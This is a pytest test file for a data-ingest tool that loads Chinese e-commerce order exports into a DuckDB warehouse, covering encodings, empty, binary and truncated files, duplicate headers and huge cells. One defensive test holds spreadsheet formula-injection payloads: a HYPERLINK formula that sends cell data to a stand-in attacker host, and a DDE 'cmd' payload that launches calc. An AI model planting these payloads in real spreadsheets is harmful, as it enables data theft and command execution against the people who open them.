"""Malformed and odd inputs: one Chinese sentence each, and the warehouse left as it was.

Decision recorded here: a file with a header and no data rows is not an error. It loads 0
rows and is recorded in the manifest (a day without orders is a fact), so re-running skips it.
"""

from __future__ import annotations

import re

import pytest

from storeops import paths
from storeops.errors import FileFormatError, IngestError
from storeops.ingest import load, readers

from .exports import (
    GEN_A_ITEMS,
    STORE,
    csv_bytes,
    fetch,
    order_row,
    orders_csv,
    row,
    snapshot,
    xlsx_bytes,
)

OID = "2345678901234567890"
CJK = re.compile(r"[\u4e00-\u9fff]")
SENTENCE = re.compile(r"^[^\n]+$")  # one line: the sentence a CLI prints


def grid(sheets):
    (sheet,) = sheets
    return sheet.rows.to_numpy().tolist()


def item_lines(n: int = 2) -> list[list[str]]:
    return [GEN_A_ITEMS] + [
        row(GEN_A_ITEMS, 订单编号=f'="23456789012345678{i}"', 标题="羊毛衫", 价格="199.00",
            购买数量="1", 订单状态="交易成功", 商家编码="SKU-1") for i in range(n)]


def refuse(data: bytes, name: str = "a.csv") -> str:
    with pytest.raises(IngestError) as err:
        readers.read_bytes(data, name)
    message = str(err.value)
    assert SENTENCE.match(message) and CJK.search(message)
    assert name in message
    return message


def loaded_baseline(put_raw) -> dict:
    put_raw("ExportOrderList202608101200.csv", orders_csv([order_row(OID)]))
    assert [r.status for r in load.ingest(STORE)] == ["loaded"]
    return snapshot()


# ---------------------------------------------------------------- encodings and line ends


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_utf16_text_reads_like_utf8(encoding):
    text = "统计日期\t访客数\r\n2026-08-11\t1,234\r\n"
    data = text.encode(encoding)
    if encoding == "utf-16-le":
        data = b"\xff\xfe" + data  # Excel "Unicode text": LE with a BOM
    elif encoding == "utf-16-be":
        data = b"\xfe\xff" + data
    assert grid(readers.read_bytes(data, "a.txt")) == [
        ["统计日期", "访客数"], ["2026-08-11", "1,234"]]


def test_utf16_without_bom_is_recognized_by_its_nul_bytes():
    data = "统计日期,访客数\n2026-08-11,1\n".encode("utf-16-le")
    assert grid(readers.read_bytes(data, "a.csv"))[1] == ["2026-08-11", "1"]


@pytest.mark.parametrize("newline", ["\r\n", "\n"])
@pytest.mark.parametrize("sep", [",", "\t"])
def test_crlf_lf_csv_and_tsv_give_the_same_grid(newline, sep):
    lines = item_lines()
    got = grid(readers.read_bytes(csv_bytes(lines, sep=sep, newline=newline), "a.csv"))
    assert got == [list(c) for c in lines]


def test_utf8_with_a_pasted_gbk_line_is_refused_not_guessed():
    good = "\n".join(",".join(r) for r in item_lines(30)).encode("utf-8")
    data = good + b"\n" + "羊毛衫,混进来的GBK".encode("gbk") + b"\n"
    message = refuse(data)
    assert "混有其他编码" in message
    assert "第 32 行" in message  # header + 30 rows, then the pasted line


def test_bytes_of_no_known_encoding_say_so():
    assert "既不是 UTF-8 也不是 GBK" in refuse(b"\x81\x30\xff\xff" * 10)


# ---------------------------------------------------------------- empty, binary, cut off


@pytest.mark.parametrize("data", [b"", b"\r\n\r\n", b"\xef\xbb\xbf", b"\xff\xfe"])
def test_empty_files_say_empty(data):
    assert "文件是空的" in refuse(data)


@pytest.mark.parametrize("data", [
    b"\x00\x01\x02\x03garbage" * 50,
    bytes(range(1, 32)) * 40,  # control characters, no NUL
])
def test_binary_garbage_is_refused(data):
    assert "二进制" in refuse(data, "订单.csv") or "既不是" in refuse(data, "订单.csv")


def test_truncated_last_line_is_refused_and_the_warehouse_is_unchanged(put_raw):
    before = loaded_baseline(put_raw)
    whole = csv_bytes(item_lines(6)).decode("gb18030")
    put_raw("ExportOrderDetailList202608111200.csv",
            whole[: whole.rindex("羊毛衫") + 2].encode("gb18030"))
    (_, result) = load.ingest(STORE)
    assert result.status == "quarantined"
    assert "中途结束" in result.message
    assert snapshot() == before


def test_header_only_file_loads_zero_rows_and_is_recorded(put_raw):
    put_raw("ExportOrderList202608111200.csv", orders_csv([]))
    (result,) = load.ingest(STORE)
    assert (result.status, result.kind, result.rows_kept, result.rows_refused) == (
        "loaded", "orders", 0, 0)
    assert fetch("SELECT rows_read, rows_kept FROM manifest") == [(0, 0)]
    assert [r.status for r in load.ingest(STORE)] == ["skipped"]


def test_header_only_xlsx_loads_zero_rows(put_raw):
    put_raw("订单报表.xlsx", xlsx_bytes([["订单编号", "买家实付金额", "订单创建时间"]]))
    (result,) = load.ingest(STORE)
    assert (result.status, result.rows_kept) == ("loaded", 0)


# ---------------------------------------------------------------- headers


def test_duplicate_header_with_different_values_refuses_the_file(put_raw):
    before = loaded_baseline(put_raw)
    header = ["订单编号", "买家实际支付金额", "订单创建时间", "买家实际支付金额"]
    put_raw("ExportOrderList202608111200.csv", csv_bytes([
        header, ['="2345678901234567891"', "10.00", "2026-08-11 10:00:00", "12.00"]]))
    (_, result) = load.ingest(STORE)
    assert result.status == "quarantined"
    assert "表头「买家实际支付金额」出现了两次（第 2 列和第 4 列）" in result.message
    assert snapshot() == before


def test_duplicate_header_with_identical_values_is_harmless(put_raw):
    header = ["订单编号", "买家实际支付金额", "订单创建时间", "买家实际支付金额"]
    put_raw("ExportOrderList202608111200.csv", csv_bytes([
        header, [f'="{OID}"', "10.00", "2026-08-11 10:00:00", "10.00"]]))
    (result,) = load.ingest(STORE)
    assert (result.status, result.rows_kept) == ("loaded", 1)
    assert fetch("SELECT paid_amount FROM orders") == [(10,)]


def test_same_value_twice_in_a_data_row_is_not_a_duplicate_header():
    sheets = readers.read_bytes(csv_bytes([["统计日期", "访客数", "浏览量"],
                                           ["2026-08-11", "访客数", "访客数"]]), "a.csv")
    assert len(grid(sheets)) == 2


def test_unknown_extra_columns_are_kept_out_and_reported_once(put_raw):
    header = ["订单编号", "买家实际支付金额", "订单创建时间", "新的列", "另一个新列"]
    put_raw("ExportOrderList202608111200.csv", csv_bytes([
        header, [f'="{OID}"', "10.00", "2026-08-11 10:00:00", "x", "y"],
        ['="2345678901234567891"', "11.00", "2026-08-11 10:00:00", "x", "y"]]))
    (result,) = load.ingest(STORE)
    assert result.unknown_columns == ["新的列", "另一个新列"]
    assert fetch("SELECT unknown_columns FROM manifest") == [("新的列,另一个新列",)]
    columns = [r[0] for r in fetch("SELECT column_name FROM duckdb_columns() "
                                   "WHERE table_name = 'orders'")]
    assert "新的列" not in columns


# ---------------------------------------------------------------- cell contents


@pytest.mark.parametrize("title", [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "@SUM(A1)",
])
def test_formula_looking_text_stays_inert_text(put_raw, title):
    put_raw("ExportOrderList202608111200.csv", orders_csv([order_row(OID, 宝贝标题=title)]))
    (result,) = load.ingest(STORE)
    assert result.status == "loaded"
    assert fetch("SELECT title_summary FROM orders") == [(title,)]


def test_a_one_megabyte_cell_reads(put_raw):
    memo = "很长的备注" * 210_000  # 1 050 000 characters, beyond csv's default 131 072
    put_raw("ExportOrderList202608111200.csv", orders_csv([order_row(OID, 订单备注=memo)]))
    (result,) = load.ingest(STORE)
    assert result.status == "loaded", result.message
    assert fetch("SELECT length(seller_memo) FROM orders") == [(len(memo),)]


def test_a_runaway_quote_beyond_the_cell_limit_is_refused(monkeypatch):
    monkeypatch.setattr(readers, "MAX_FIELD_CHARS", 1000)
    data = ('统计日期,访客数\r\n2026-08-11,"' + "x" * 200_000 + "\r\n").encode()
    with pytest.raises(FileFormatError, match="引号没有闭合"):
        readers.read_bytes(data, "a.csv")


def test_quarantine_note_holds_the_sentence(put_raw):
    put_raw("坏.csv", b"\x00\x01garbage" * 100)
    (result,) = load.ingest(STORE)
    assert result.status == "quarantined"
    (note,) = paths.quarantine_dir(STORE).glob("坏.csv.*.txt")
    assert result.message in note.read_text("utf-8")
